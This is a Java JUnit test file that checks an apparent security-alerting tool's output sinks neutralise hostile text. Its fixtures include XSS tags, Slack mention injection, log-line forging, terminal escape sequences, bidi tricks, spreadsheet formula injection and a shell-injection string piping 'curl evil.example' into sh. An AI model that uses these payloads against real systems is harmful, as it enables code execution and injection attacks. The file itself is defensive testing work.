package dev.latchkey.lambda;

import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.Records;
import dev.latchkey.detection.alert.Alert;
import dev.latchkey.replay.Judged;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever an attacker calls things, none of those who read of them is harmed: each text goes into each sink. */
class HostileTextTest {

    /** After what ends a line somewhere, or moves a terminal's cursor, this would begin one. */
    private static final String FORGED = "FORGED";

    private static final List<String> TEXTS = List.of(
            "<!channel> <!here|x> <@U012AB3CD> <#C012AB3CD|general> <https://evil.example|sign in>",
            "@channel @everyone #general &lt;!channel&gt; user@evil.example",
            "*bold* _slanted_ ~gone~ `code` ```block``` |hidden|",
            "[sign in](https://evil.example) ![x](HTTPS://evil.example/x.png) javascript://x slack://open",
            "<script>alert(1)</script><img src=x onerror=alert(1)><a href='//evil.example'>",
            "x\r\nFORGED: a\nFORGED: b\rFORGED\u000bFORGED\fFORGED\u0085FORGED\u2028FORGED\u2029FORGED",
            "\u001b[2J\u001b[1;1HFORGED\u001b]0;FORGED\u0007\u001b]8;;http://evil.example\u0007x\u009b31m\u0000",
            "x\u202eFORGED\u202c\u2066FORGED\u2069\u200b\u200f\ufeff\u061c\u00ad",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "\n\u202e=1",
            "\ud83d and \udd11 halved \udc00\ud800",
            "'; curl evil.example | sh; #\\\"},{\"severity\":\"Low\"} $(id) ${x} %n%s {{x}}",
            "n".repeat(64 * 1024),
            "\\\"".repeat(32 * 1024),
            "x" + "\n".repeat(64 * 1024) + FORGED,
            "🔑".repeat(32 * 1024),
            "x" + "\u202e".repeat(32 * 1024));

    @TempDir
    private Path folder = Path.of("never used: JUnit sets it");

    static Stream<Arguments> everyTextInEverySink() {
        return TEXTS.stream().flatMap(text -> Arrays.stream(Sink.values()).map(sink -> Arguments.of(sink, text)));
    }

    @ParameterizedTest(name = "{0} #{index}")
    @MethodSource("everyTextInEverySink")
    void a_hostile_text_is_harmless_in_every_sink(Sink sink, String text) throws IOException {
        for (String told : sink.told(Records.hostile(folder, text))) {
            assertThat(told).isNotEmpty();
            assertThat(told.codePoints().filter(sink::mayNot).mapToObj("U+%04X"::formatted))
                    .as("control, format and surrogate characters in %s", sink)
                    .isEmpty();
            assertThat(told.lines()).as("lines in %s", sink).noneMatch(line -> line.startsWith(FORGED));
            assertThat(told.length()).as("length in %s", sink).isLessThan(sink.longest());
            sink.check(told);
        }
    }

    /** Else the texts would prove nothing: they must come as far as the finding. */
    @Test
    void the_texts_do_reach_the_finding() throws IOException {
        Path events = Records.hostile(folder, "<!channel>");
        assertThat(Judged.findings(events)).hasSize(1).allSatisfy(finding -> {
            assertThat(finding.stretch().target()).isEqualTo("<!channel>");
            assertThat(finding.stretch().steps()).hasSize(4).allSatisfy(step -> {
                assertThat(step.actor().shown()).contains("<!channel>");
                assertThat(step.origin().address()).isEqualTo("<!channel>");
            });
        });
        assertThat(Sink.message(events, Alert.Activity.CREATE, "default")).contains("<!channel>");
    }
}
